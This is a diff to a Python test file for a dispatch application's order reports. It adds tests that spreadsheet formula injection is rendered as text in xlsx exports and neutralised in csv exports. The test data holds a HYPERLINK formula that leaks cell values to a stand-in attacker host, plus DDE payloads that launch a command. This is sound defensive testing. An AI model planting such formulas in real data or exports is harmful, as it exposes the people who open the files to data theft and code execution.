@@ -4,11 +4,14 @@ test_reports.py, read over HTTP by a dispatcher of the company, and nobody else'
 from __future__ import annotations
 
 import csv
+import datetime as dt
 import io
 
+from openpyxl import load_workbook
 from python_calamine import CalamineWorkbook
 
 from tests.dispatch.factory import make_company, make_member
+from tests.dispatch.orders_helpers import create_order
 from tests.dispatch.test_reports import build_day
 
 RANGE = "from=2026-11-20&to=2026-11-21"
@@ -76,3 +79,56 @@ def test_bad_ranges_kinds_and_callers_get_problems(dispatch_client, dispatcher, 
     for query in ("from=2026-11-20", "from=yesterday&to=2026-11-21", ""):
         assert get(f"/reports/orders.xlsx?{query}", headers=dispatcher.headers).status_code == 400, query
     assert get(f"/reports/payouts.csv?{RANGE}", headers=dispatcher.headers).status_code == 400
+
+
+HOSTILE_NAME = '=HYPERLINK("https://attacker.example/?leak="&E3&F3,"Open")'
+
+
+def _today_range() -> str:
+    from appliance.common import clock
+    from appliance.dispatch.reports.service import YEREVAN
+
+    day = clock.now().astimezone(YEREVAN).date()
+    return f"from={day.isoformat()}&to={(day + dt.timedelta(days=1)).isoformat()}"
+
+
+def test_a_formula_typed_as_a_recipient_name_is_text_in_the_xlsx_and_neutralised_in_the_csv(
+    dispatch_client, dispatcher
+) -> None:
+    create_order(
+        dispatch_client,
+        dispatcher,
+        recipientName=HOSTILE_NAME,
+        externalRef="@SUM(1+1)*cmd|' /C calc'!A0",
+        addressLabelHy="-2+3+cmd|' /C calc'!A0",
+    )
+    query = _today_range()
+    sheet = dispatch_client.get(f"/reports/orders.xlsx?{query}", headers=dispatcher.headers)
+    assert sheet.status_code == 200, sheet.text
+    rows = list(load_workbook(io.BytesIO(sheet.data)).active.iter_rows())
+    header = [c.value for c in rows[0]]
+    order = {name: cell for name, cell in zip(header, rows[1], strict=True)}
+    recipient = order["recipient"]
+    # The real file: the cell is text holding the name as typed, never a formula.
+    assert (recipient.data_type, recipient.value) == ("s", HOSTILE_NAME)
+    assert (order["external_ref"].data_type, order["address_hy"].data_type) == ("s", "s")
+    assert order["amount_amd"].data_type == "n" and order["amount_amd"].value == 5000
+
+    answer = dispatch_client.get(f"/reports/orders.csv?{query}", headers=dispatcher.headers)
+    assert answer.status_code == 200, answer.text
+    table = list(csv.reader(io.StringIO(answer.data.decode("utf-8-sig"))))
+    row = dict(zip(table[0], table[1], strict=True))
+    assert row["recipient"] == "'" + HOSTILE_NAME  # OWASP: a leading quote makes it text
+    assert row["external_ref"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
+    assert row["address_hy"] == "'-2+3+cmd|' /C calc'!A0"
+    assert row["amount_amd"] == "5000"
+
+
+def test_a_control_character_in_a_recipient_name_does_not_break_the_xlsx(dispatch_client, dispatcher) -> None:
+    """XML cannot hold most C0 control characters: openpyxl refused the whole workbook (a 500 for
+    every report of the range, caused by one order). They are dropped from the cell instead."""
+    create_order(dispatch_client, dispatcher, recipientName="Ani\x01 Petrosyan\x1b")
+    sheet = dispatch_client.get(f"/reports/orders.xlsx?{_today_range()}", headers=dispatcher.headers)
+    assert sheet.status_code == 200, sheet.text
+    rows = list(load_workbook(io.BytesIO(sheet.data)).active.iter_rows(values_only=True))
+    assert rows[1][rows[0].index("recipient")] == "Ani Petrosyan"
